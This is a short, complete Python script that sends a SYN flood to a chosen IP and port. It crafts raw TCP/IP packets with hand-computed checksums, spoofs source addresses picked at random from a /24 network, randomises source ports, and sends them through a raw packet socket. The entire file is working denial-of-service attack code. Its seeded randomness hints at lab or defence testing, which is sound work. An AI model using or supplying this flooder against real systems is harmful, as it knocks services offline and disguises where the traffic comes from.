#!/usr/bin/python3
"""flood - sends COUNT SYNs with random source ports and addresses of a network to IP:PORT, as raw packets.

    flood.py INTERFACE MAC NETWORK/24 IP:PORT COUNT
"""

import random
import socket
import struct
import sys


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(rng, source, destination, port):
    tcp = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65536), port, rng.getrandbits(32), 0, 6 << 4, 2, 64240, 0, 0)
    tcp += b"\x02\x04\x05\xb4"
    pseudo = source + destination + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), rng.getrandbits(16), 0, 64, 6, 0) + source + destination
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


def main():
    interface, mac, network, target, count = sys.argv[1:]
    rng = random.Random(1)
    ip, _, port = target.partition(":")
    base = socket.inet_aton(network.partition("/")[0])[:3]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((interface, 0))
        header = bytes.fromhex(mac.replace(":", "")) + s.getsockname()[4] + b"\x08\x00"
        for _ in range(int(count)):
            source = base + bytes([rng.randrange(100, 200)])
            s.send(header + syn(rng, source, socket.inet_aton(ip), int(port)))


if __name__ == "__main__":
    main()
